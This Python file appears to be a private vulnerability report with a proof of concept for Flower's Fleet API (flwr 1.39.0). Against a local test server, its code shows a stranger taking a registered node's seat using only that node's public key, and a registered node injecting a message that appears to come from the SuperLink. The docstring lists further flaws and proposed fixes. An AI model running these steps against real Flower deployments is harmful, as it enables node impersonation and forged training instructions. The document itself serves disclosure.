"""Report for Flower: the Fleet API believes what a node says of itself. flwr 1.39.0 alone shows it here.

For flwrlabs/flower, flwr 1.39.0, `flower-superlink --enable-supernode-auth`, transport `grpc-rere`. Not
sent yet; upstream's way for such reports is private. `pate_fed` is closed against all of it
(`pate_fed/flower/guard.py`).

The interceptor checks that a call is signed by the key in its metadata, whose node id it has. Not held to
that key:

- `ActivateNode`: the interceptor skips it, and the servicer takes `public_key` out of the request, so the
  key that signed may be any. Anyone who reaches the port and knows a node's public key takes its seat; the
  node gets error 2004.
- `ActivateNode`, `SendNodeHeartbeat`: `heartbeat_interval` may be 1,800 s, and a node counts as online for
  twice as long. The seat stays taken for an hour with one call.
- `PushMessages`: `metadata.src_node_id` is not compared with `node.node_id`. Any registered node, with an
  empty `reply_to_message_id` and source 1, stores an instruction of the SuperLink to another node; with a
  known message id, a reply in another node's name.
- `PullObject`, `ConfirmMessageReceived`: that the object belongs to a message to or from this node. Any
  registered node that knows an object's id reads another node's objects, and deletes its messages.

Besides, the server reads messages of 2 GiB, decompressed, before the interceptor is called, from anyone.

What would close it: compare the public key of `RegisterNodeFleetRequest` and `ActivateNodeRequest` with the
metadata's; require that a pushed message comes from the node and replies to one that it got; look at whose
message an object belongs to; bound the heartbeat interval near 30 s; require clients' certificates; bound
messages, and leave compression out. In `Array.inflate` add up the chunks before they are joined:
`arraychunk_ids` may name one any number of times.
"""

from concurrent.futures import ThreadPoolExecutor

import grpc
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.app.message import remove_content_from_message
from flwr.client.grpc_rere_client.node_auth_client_interceptor import NodeAuthClientInterceptor
from flwr.common.constant import SUPERLINK_NODE_ID
from flwr.common.serde import message_to_proto
from flwr.proto import fleet_pb2, fleet_pb2_grpc
from flwr.proto.node_pb2 import Node
from flwr.server.superlink.fleet.grpc_rere.fleet_servicer import FleetServicer
from flwr.server.superlink.fleet.grpc_rere.node_auth_server_interceptor import NodeAuthServerInterceptor
from flwr.server.superlink.linkstate import LinkStateFactory
from flwr.supercore.constant import FLWR_IN_MEMORY_DB_NAME, NOOP_FEDERATION_ID, TaskType
from flwr.supercore.inflatable.inflatable_object import get_object_tree
from flwr.supercore.object_store import ObjectStoreFactory
from flwr.supercore.primitives.asymmetric import generate_key_pairs, public_key_to_bytes
from flwr.supercore.task_identity import TaskIdentity
from flwr.superlink.federation import NoOpFederationManager

# A Fleet API with node authentication, a running run, and two registered nodes.
store = ObjectStoreFactory(FLWR_IN_MEMORY_DB_NAME)
factory = LinkStateFactory(FLWR_IN_MEMORY_DB_NAME, NoOpFederationManager(), store)
state = factory.state()
run = state.create_run(None, None, "x", {}, NOOP_FEDERATION_ID, None, None, TaskType.SERVER_APP)
[task] = state.get_tasks(run_ids=[run])
state.claim_task(task.task_id)
state.activate_task(task.task_id)
server = grpc.server(ThreadPoolExecutor(4), interceptors=[NodeAuthServerInterceptor(factory)])
fleet_pb2_grpc.add_FleetServicer_to_server(FleetServicer(factory, store, True), server)
port = server.add_insecure_port("127.0.0.1:0")
server.start()
victim, attacker, stranger = generate_key_pairs(), generate_key_pairs(), generate_key_pairs()
for keys in (victim, attacker):
    state.create_node("", "owner", public_key_to_bytes(keys[1]), 0)


def stub(keys):
    """A caller of the Fleet API that signs with these keys."""
    channel = grpc.insecure_channel(f"127.0.0.1:{port}")
    return fleet_pb2_grpc.FleetStub(grpc.intercept_channel(channel, NodeAuthClientInterceptor(*keys)))


# 1 and 2. A stranger, who signs with a key that nobody registered, takes the victim's seat for an hour.
seat = fleet_pb2.ActivateNodeRequest(public_key=public_key_to_bytes(victim[1]), heartbeat_interval=1800)
node = stub(stranger).ActivateNode(seat).node_id
print("a stranger has activated the victim's node", node)
try:
    stub(victim).ActivateNode(seat)
except grpc.RpcError as error:
    print("the victim is refused:", error.code())

# 3. A registered node sends the victim an instruction that is stored as the SuperLink's own.
own = fleet_pb2.ActivateNodeRequest(public_key=public_key_to_bytes(attacker[1]), heartbeat_interval=30)
me = stub(attacker).ActivateNode(own).node_id
TaskIdentity.run_id, TaskIdentity.node_id, TaskIdentity.task_id = run, SUPERLINK_NODE_ID, 1
order = Message(RecordDict({"c": ConfigRecord({"do": "this"})}), node, "train")
order.metadata.__dict__["_message_id"] = order.object_id
stub(attacker).PushMessages(
    fleet_pb2.PushMessagesRequest(
        node=Node(node_id=me),
        messages_list=[message_to_proto(remove_content_from_message(order))],
        message_object_trees=[get_object_tree(order)],
    )
)
[found] = stub(victim).PullMessages(fleet_pb2.PullMessagesRequest(node=Node(node_id=node))).messages_list
print("the victim gets a message from node", found.metadata.src_node_id, "(1 is the SuperLink)")
